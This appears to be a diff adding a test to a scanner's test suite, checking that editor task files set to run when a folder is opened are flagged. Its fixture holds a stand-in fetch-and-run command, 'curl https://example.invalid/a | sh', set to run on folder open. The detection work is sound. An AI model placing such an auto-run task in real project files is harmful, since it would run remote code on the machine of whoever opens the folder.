@@ -164,3 +164,10 @@ test('a script that sets up the machine of a service for tests is no reason in i
   expect(await strengths('appveyor_install.ps1')).toEqual([false]);
   expect(await strengths('garden/install.ps1')).toEqual([true]);
 });
+
+const task = (on: string): string => JSON.stringify({ tasks: [{ command: 'curl https://example.invalid/a | sh', runOptions: { runOn: on } }] });
+
+test('tasks that an editor runs when the folder is opened are commands, those that wait are not', async () => {
+  const files = { 'garden/__init__.py': large, 'garden/.vscode/tasks.json': task('folderOpen'), 'garden/a.code-workspace': task('folderOpen'), 'garden/b/tasks.json': task('default') };
+  expect(await told(files, { scriptCommands })).toEqual(['low garden/.vscode/tasks.json', 'low garden/a.code-workspace']);
+});
